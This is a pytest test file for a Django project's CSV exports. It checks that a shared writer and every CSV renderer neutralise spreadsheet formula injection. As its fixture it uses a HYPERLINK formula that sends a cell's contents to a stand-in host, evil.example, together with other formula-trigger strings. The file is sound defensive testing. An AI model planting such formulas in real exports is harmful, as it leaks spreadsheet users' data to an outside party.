"""Every CSV export goes through the project's one CSV writer, which neutralises spreadsheet formulas (issue 21.6)."""

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import get_resolver
from rest_framework.renderers import BaseRenderer

from baskets.apis import PickupSheetCsvRenderer
from ecopole.core.csv_export import csv_cell, csv_writer
from orders.renderers import PreparationListCsvRenderer
from processing.models import Statement
from processing.services.billing import statement_csv
from tests.factories.catalogue import ProducerFactory
from vending.renderers import ReportCSVRenderer

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
EVIL_CELLS = [EVIL, "+33 6 00", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]


@pytest.mark.parametrize("value", EVIL_CELLS)
def test_a_cell_a_spreadsheet_would_run_is_quoted(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Botte de carottes", "-1.500", "+3", "12.00", 3, Decimal("-2.5"), "", None])
def test_text_and_plain_numbers_are_left_as_they_are(value):
    assert csv_cell(value) == ("" if value is None else value)


def test_the_writer_quotes_every_cell_of_every_row():
    buffer = io.StringIO()
    csv_writer(buffer, lineterminator="\n").writerows([[EVIL, "ok", -1], ["@x"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'" + EVIL, "ok", "-1"], ["'@x"]]


def test_no_module_writes_csv_but_the_project_writer():
    """A new export that calls `csv.writer` directly would skip the neutralisation: it must use `csv_writer`."""
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", ".tools/", "tests/", "bench/")) or relative == "ecopole/core/csv_export.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert offenders == []


def _csv_renderers() -> set[type]:
    """Every CSV renderer reachable from the URLs (imports every API module)."""
    found = set()

    def walk(resolver):
        for pattern in resolver.url_patterns:
            if hasattr(pattern, "url_patterns"):
                walk(pattern)
                continue
            view = getattr(pattern.callback, "view_class", None) or getattr(pattern.callback, "cls", None)
            for renderer in getattr(view, "renderer_classes", []) or []:
                if isinstance(renderer, type) and issubclass(renderer, BaseRenderer) and "csv" in renderer.media_type:
                    found.add(renderer)

    walk(get_resolver())
    return found


def _preparation_list() -> dict:
    row = {"destination_id": 1, "product": 1, "name": EVIL, "unit": "kg", "quantity": "1.000", "orders": 1}
    rows = [{**row, "destination_type": "pickup", "destination": EVIL}, {**row, "destination_type": "total"}]
    return {"date": "2026-10-23", "rows": [{**rows[1], "destination": None, "destination_id": None}, rows[0]]}


def _pickup_sheet() -> dict:
    basket = {"id": 1, "customer_name": EVIL, "offer_name": EVIL, "size": "small", "status": "planned"}
    return {"date": "2026-10-23", "places": [{"type": "pickup_point", "id": 1, "name": EVIL, "baskets": [basket]}]}


def _vending_report() -> dict:
    line = {"product": 1, "product_name": EVIL, "quantity": "1.000", "count": 1, "amount_incl_vat": "2.20"}
    loss = {"product": 1, "product_name": EVIL, "quantity": "1.000", "value": "2.20"}
    return {
        "sales_count": 1,
        "sales_by_day": [{"date": "2026-03-02", "count": 1, "quantity": "1.000", "amount_incl_vat": "2.20"}],
        "sales_by_product": [line],
        "revenue": {"amount_incl_vat": "2.20", "vat": "0.11", "amount_excl_vat": "2.09", "by_vat_rate": []},
        "losses": [loss],
        "adjustments": [loss],
        "anomalies": [{"kind": "unknown_compartment", "compartment": EVIL, "count": 1}],
        "fill_rate_now": None,
    }


RENDERER_CASES = {
    PreparationListCsvRenderer: _preparation_list,
    PickupSheetCsvRenderer: _pickup_sheet,
    ReportCSVRenderer: _vending_report,
}


def test_every_csv_renderer_of_the_api_has_a_formula_injection_case():
    assert _csv_renderers() == set(RENDERER_CASES)


@pytest.mark.parametrize("renderer", list(RENDERER_CASES), ids=lambda r: r.__name__)
def test_every_csv_renderer_neutralises_a_formula_in_free_text(renderer):
    text = renderer().render(RENDERER_CASES[renderer]()).decode()

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + EVIL in cells
    assert EVIL not in cells
    assert not any(cell.startswith("=") for cell in cells)


@pytest.mark.django_db
def test_the_workshop_statement_csv_neutralises_a_formula(manager_client):
    statement = Statement.objects.create(
        producer=ProducerFactory(),
        month=date(2026, 11, 1),
        total=Decimal("10.00"),
        data={
            "lines": [
                {
                    "date": "2026-11-19",
                    "booking": 1,
                    "kind": "output",
                    "description": EVIL,
                    "quantity": "1",
                    "unit_price": "10.00",
                    "amount": "10.00",
                }
            ],
            "total": "10.00",
        },
    )

    response = manager_client.get(f"/api/v1/processing/statements/{statement.pk}/csv/")

    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode()), delimiter=";") for cell in row]
    assert "'" + EVIL in cells and EVIL not in cells
    assert statement_csv(statement) == response.content.decode()
